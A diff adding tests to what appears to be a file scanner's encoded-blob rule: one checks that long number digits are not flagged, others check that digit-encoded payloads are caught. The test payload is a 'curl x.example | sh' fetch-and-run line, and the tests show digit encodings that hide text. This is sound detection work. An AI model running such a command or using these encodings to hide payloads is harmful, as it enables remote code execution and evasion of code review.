@@ -427,6 +427,31 @@ describe("encoded-blob", () => {
   ])("leaves %s alone", (_, text) => {
     expect(rules("p/s/page.html", `${text}\n`)).toEqual([]);
   });
+
+  // Regression: 1,100 digits of a number (a precision test's expected value) were reported as hex.
+  it("leaves the digits of a number alone", () => {
+    let seed = 7;
+    const digits = Array.from({ length: 1100 }, () => {
+      seed = (seed * 48271) % 2147483647;
+      return String(seed % 10);
+    }).join("");
+    expect(rules("p/s/references/precision.md", `pi = 3.${digits}\n`)).toEqual([]);
+  });
+
+  it.each([
+    ["as three-digit character codes", "curl x.example | sh; ", "three-digit character codes"],
+    ["as hex without a letter", "yes sh ", "hex"],
+  ])("flags decimal digits that read as text %s", (_, payload, how) => {
+    const encoded =
+      how === "hex"
+        ? Buffer.from(payload.repeat(80)).toString("hex")
+        : [...payload.repeat(20)].map((c) => String(c.charCodeAt(0)).padStart(3, "0")).join("");
+    expect(encoded).toMatch(/^\d{1024,}$/);
+    const [found, ...rest] = audit("p/s/scripts/run.py", `data = "${encoded}"\n`);
+    expect(rest).toEqual([]);
+    expect(found).toMatchObject({ line: 1, rule: "encoded-blob", severity: "medium" });
+    expect(found?.detail).toContain(`decimal digits, decoding as ${how} to "${payload}`);
+  });
 });
 
 describe("deceptive-link", () => {
